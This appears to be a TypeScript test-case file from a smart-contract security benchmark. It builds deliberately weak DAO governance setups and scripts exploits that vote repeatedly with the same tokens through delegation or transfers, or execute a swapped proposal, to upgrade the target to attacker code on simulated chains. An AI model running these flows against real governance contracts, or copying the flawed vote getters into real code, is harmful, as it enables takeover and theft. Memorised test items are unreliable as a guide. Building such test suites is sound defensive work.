/** Governors whose votes are not those of one time, or not those for the proposal that is executed. */
import type { PrivateKeyAccount } from 'viem/accounts'
import type { Attack } from '../attack.ts'
import { type Case, type Twin, WEAK } from '../case.ts'
import type { Built } from '../chain.ts'
import { upgradeCall } from '../safes.ts'
import { proposal } from './lists.ts'
import { controlledBy, part } from './lying-getters.ts'
import { voted } from './walks.ts'

/** The attacker has a tenth of all votes. */
const TENTH = 10n ** 23n
const TIMES = 6

const votedBy = (token: string, governor = 'PastBallots'): Case['build'] =>
  voted(governor, async (chain) => {
    const council = await chain.council()
    const votes = await chain.deploy(token, council)
    await chain.send(votes, 'transfer(address,uint96)', [chain.hidden(1).address, TENTH], council)
    return votes
  })

/** Votes several times with the same votes: `turn` moves them on. */
const voteOften =
  (turn: (attack: Attack, token: `0x${string}`, cast: (as: PrivateKeyAccount) => Promise<void>) => Promise<void>) =>
  async (attack: Attack, built: Built): Promise<void> => {
    const [controller, target] = [part(built, 'controller'), part(built, 'admin')]
    const data = upgradeCall(built.address, attack.code)
    const cast = (as: PrivateKeyAccount): Promise<void> =>
      attack.send(controller, 'vote(bytes32,bool)', [proposal(target, data), true], { as })
    await attack.send(controller, 'propose(address,bytes)', [target, data])
    await attack.mine(2)
    await turn(attack, part(built, 'token'), cast)
    await attack.wait(700_000)
    await attack.send(controller, 'execute(address,bytes)', [target, data])
  }
const byDelegates = voteOften(async (attack, token, cast) => {
  for (let n = 0; n < TIMES; n += 1) {
    const voter = attack.newAccount()
    await attack.send(token, 'delegate(address)', [voter.address], { as: attack.hidden(1) })
    await attack.mine(2)
    await cast(voter)
  }
})
const byTransfers = voteOften(async (attack, token, cast) => {
  let holder = attack.hidden(1)
  for (let n = 0; n < TIMES; n += 1) {
    await cast(holder)
    const next = attack.newAccount()
    await attack.send(token, 'transfer(address,uint96)', [next.address, TENTH], { as: holder })
    holder = next
  }
})

const drafts: readonly Omit<Case, 'truth' | 'by' | 'cause'>[] = [
  {
    name: 'a token answers with the votes of now when it is asked about a past time',
    build: votedBy('PresentVotes'),
    exploit: byDelegates,
  },
  {
    name: 'a token answers with the balance of now when it is asked about a past time',
    build: votedBy('PresentBalance'),
    exploit: byTransfers,
  },
  {
    name: 'a token answers with the votes of the last block when it is asked about a past time',
    build: votedBy('RecentVotes'),
    exploit: byDelegates,
  },
  {
    name: 'a governor asks for the votes of the last block',
    build: votedBy('PastToken', 'LateBallots'),
    exploit: byDelegates,
  },
  {
    name: 'the votes for one proposal let every caller execute another one',
    build: async (chain) => {
      const council = await chain.council()
      const token = await chain.deploy('PastToken', council)
      const governor = await chain.deploy('SwappedBallots', token)
      await chain.send(token, 'delegate(address)', [council], council)
      await chain.send(governor, 'propose(address,bytes)', [council, '0x'])
      await chain.send(governor, 'vote(uint256,bool)', [1n, true], council)
      return controlledBy(chain, governor, { token })
    },
    exploit: async (attack, built) => {
      const governor = part(built, 'controller')
      const data = upgradeCall(built.address, attack.code)
      await attack.send(governor, 'propose(address,bytes)', [part(built, 'admin'), data])
      await attack.wait(700_000)
      await attack.send(governor, 'execute(uint256,uint256)', [2n, 1n])
    },
  },
]

export const pastVotes: readonly Case[] = drafts.map((draft) => ({
  by: 'anyone',
  truth: WEAK,
  cause: 'lying getter',
  ...draft,
}))

export const pastVoteTwins: readonly Twin[] = [
  {
    name: 'a vote that counts as of the block of the proposal',
    cause: 'lying getter',
    twinOf: 'a token answers with the votes of now when it is asked about a past time',
    deserves: 'multisig',
    // In code that is compiled via IR, what the loop keeps in memory is not followed.
    settings: ['optimized', 'unoptimized', 'old EVM'],
    build: votedBy('PastToken'),
  },
]
